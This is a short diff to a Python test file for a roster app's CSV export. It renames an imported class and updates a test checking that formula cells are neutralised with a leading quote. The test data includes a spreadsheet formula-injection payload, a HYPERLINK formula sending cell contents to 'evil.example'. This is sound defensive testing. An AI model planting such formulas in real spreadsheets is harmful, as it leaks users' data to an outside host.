@@ -14,8 +14,7 @@ from sqlmodel import select
 from desk.db import session_scope
 from desk.models import Person
 from roster import exports, leave_swaps, service
-from roster.domain import Assignment
-from roster.domain import Person as DeskPerson
+from roster.domain import Assignment, Member
 from roster.models import RosterVersion
 from tests.conftest import csrf_token, login
 from tests.roster.test_leave_swaps import START, published_desk, seats
@@ -120,7 +119,7 @@ FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", 
 
 @pytest.mark.parametrize("name", FORMULAS)
 def test_exports_neutralise_formula_cells(name):
-    people = (DeskPerson("evil", name, "watcher", frozenset({"info"}), "A"),)
+    people = (Member("evil", name, "watcher", frozenset({"info"}), "A"),)
     rows = (Assignment(START, "D", "info", "evil"),)
     cell = next(csv.DictReader(io.StringIO(exports.roster_csv(rows, people))))["name"]
     assert cell == "'" + name
